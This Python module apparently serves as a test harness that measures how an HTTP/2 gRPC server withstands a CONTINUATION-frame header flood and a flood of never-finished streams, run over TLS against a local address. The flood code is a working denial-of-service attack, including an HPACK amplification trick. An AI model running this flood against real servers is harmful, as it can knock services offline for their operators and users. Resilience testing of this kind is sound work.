"""A raw HTTP/2 header flood over TLS: a HEADERS frame without END_HEADERS,
then CONTINUATION frames, never ending the header block, from a client that
never acknowledges the server's SETTINGS (so the server's header list limit
is not yet in force on that connection). What a hostile client with any
CA-signed certificate can send before any RPC handler runs."""

from __future__ import annotations

import socket
import ssl
import time
from pathlib import Path
from typing import Literal

import h2.config
import h2.connection
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame

FRAME = 16_384  # the default SETTINGS_MAX_FRAME_SIZE
# What the CONTINUATION frames carry:
#   value    one header value that never ends (all the bytes sent)
#   small    whole short literal headers, 85 bytes each
#   indexed  one-byte references to a header ("x", empty value) the first
#            frame put in the HPACK table: 33 bytes of header list each
#            (RFC 7541 4.1), so ~0.5 MB on the wire is 16 MiB of headers
FloodShape = Literal["value", "small", "indexed"]


def _context(ca: Path, cert: Path, key: Path) -> ssl.SSLContext:
    context = ssl.create_default_context(cafile=str(ca))
    context.check_hostname = False  # the address is 127.0.0.1; the chain is still verified
    context.load_cert_chain(str(cert), str(key))
    context.set_alpn_protocols(["h2"])
    return context


def _request_headers(address: tuple[str, int], path: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "https"),
        (":path", path),
        (":authority", f"{address[0]}:{address[1]}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def _value_length(length: int) -> bytes:
    """An HPACK integer with a 7-bit prefix (RFC 7541 5.1), not Huffman-coded."""
    if length < 127:
        return bytes([length])
    out, length = bytearray([127]), length - 127
    while length >= 128:
        out.append(length % 128 + 128)
        length //= 128
    out.append(length)
    return bytes(out)


def _small_headers(size: int) -> bytes:
    """Whole short literal headers (new name, not indexed), up to ``size`` bytes."""
    one = b"\x00" + _value_length(3) + b"x-f" + _value_length(40) + b"v" * 40
    return one * (size // len(one))


def _first_block(address: tuple[str, int], path: str, shape: FloodShape, total_bytes: int) -> bytes:
    block = hpack.Encoder().encode(_request_headers(address, path))
    if shape == "value":
        # A literal header, new name, without indexing, whose value is all the rest.
        return block + b"\x00" + _value_length(7) + b"x-flood" + _value_length(total_bytes)
    if shape == "indexed":
        # A literal header with incremental indexing, new name "x", empty
        # value: it becomes dynamic table entry 62, which 0xBE refers to.
        return block + b"\x40" + _value_length(1) + b"x" + _value_length(0)
    return block


def _payload(shape: FloodShape) -> bytes:
    if shape == "value":
        return b"a" * FRAME
    if shape == "indexed":
        return b"\xbe" * FRAME
    return _small_headers(FRAME)


def flood(
    address: tuple[str, int],
    ca: Path,
    cert: Path,
    key: Path,
    path: str,
    total_bytes: int,
    *,
    shape: FloodShape = "value",
    hold_s: float = 0.0,
) -> int:
    """Send about ``total_bytes`` of one never-ending header block, then keep
    the connection ``hold_s`` seconds (never acknowledging SETTINGS); the
    number of bytes the server took before it closed the connection (0 if it
    refused the connection)."""
    context = _context(ca, cert, key)
    sent = 0
    try:
        with socket.create_connection(address, timeout=10) as raw, context.wrap_socket(raw) as tls:
            connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            connection.initiate_connection()
            tls.sendall(connection.data_to_send())
            block = _first_block(address, path, shape, total_bytes)
            tls.sendall(HeadersFrame(1, data=block).serialize())  # no END_HEADERS flag
            sent = len(block)
            payload = _payload(shape)
            while sent < total_bytes:
                tls.sendall(ContinuationFrame(1, data=payload).serialize())
                sent += len(payload)
            _hold(tls, hold_s)
    except OSError:
        pass  # the server refused us or gave up on us: what we wanted to know
    return sent


def _hold(tls: ssl.SSLSocket, hold_s: float) -> None:
    """Read (and drop) what the server sends until it closes or ``hold_s`` passed."""
    tls.settimeout(0.2)
    deadline = time.monotonic() + hold_s
    while time.monotonic() < deadline:
        try:
            if not tls.recv(65536):
                return
        except (TimeoutError, ssl.SSLWantReadError):
            continue


def _frames(data: bytes) -> tuple[list[tuple[int, int]], bytes]:
    """(type, stream id) of each whole frame in ``data``, and the rest."""
    found = []
    while len(data) >= 9:
        length = int.from_bytes(data[:3], "big")
        if len(data) < 9 + length:
            break
        found.append((data[3], int.from_bytes(data[5:9], "big") & 0x7FFF_FFFF))
        data = data[9 + length :]
    return found, data


def open_streams(
    address: tuple[str, int],
    ca: Path,
    cert: Path,
    key: Path,
    path: str,
    streams: int,
    header_bytes: int,
    hold_s: float,
) -> int:
    """Open ``streams`` calls on one connection, each with a complete header
    list of about ``header_bytes`` (HPACK-indexed after the first, as a
    client's encoder does) and no request message, so each stays open; keep
    the connection ``hold_s`` seconds. The server's SETTINGS are
    acknowledged, as any client does, and what it sends is read while
    sending (unread resets would stop it reading). Returns how many streams
    the server reset."""
    context = _context(ca, cert, key)
    encoder = hpack.Encoder()
    padding = [(f"x-pad-{i}", "v" * 100) for i in range(header_bytes // 110)]
    reset: set[int] = set()
    with socket.create_connection(address, timeout=10) as raw, context.wrap_socket(raw) as tls:
        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        connection.initiate_connection()
        tls.sendall(connection.data_to_send())
        rest = _read_frames(tls, b"", reset, until_settings=True)
        tls.sendall(SETTINGS_ACK)
        for stream_id in range(1, 2 * streams, 2):
            block = encoder.encode([*_request_headers(address, path), *padding])
            frame = HeadersFrame(stream_id, data=block)
            frame.flags.add("END_HEADERS")
            tls.sendall(frame.serialize())
            tls.settimeout(0.0)
            rest = _read_frames(tls, rest, reset)
            tls.settimeout(10)
        tls.settimeout(0.2)
        deadline = time.monotonic() + hold_s
        while time.monotonic() < deadline:
            rest = _read_frames(tls, rest, reset)
    return len(reset)


SETTINGS_ACK = b"\x00\x00\x00\x04\x01\x00\x00\x00\x00"  # an empty SETTINGS frame, ACK flag


def _read_frames(tls: ssl.SSLSocket, rest: bytes, reset: set[int], *, until_settings: bool = False) -> bytes:
    """Read what is there (or, ``until_settings``, until the server's
    SETTINGS came), noting the streams reset; the unparsed rest."""
    while True:
        try:
            data = tls.recv(65536)
        except (TimeoutError, ssl.SSLWantReadError, BlockingIOError):
            if until_settings:
                continue
            return rest
        if not data:
            return rest
        frames, rest = _frames(rest + data)
        reset.update(stream for kind, stream in frames if kind == 0x3)  # RST_STREAM
        if until_settings and any(kind == 0x4 for kind, _ in frames):
            return rest
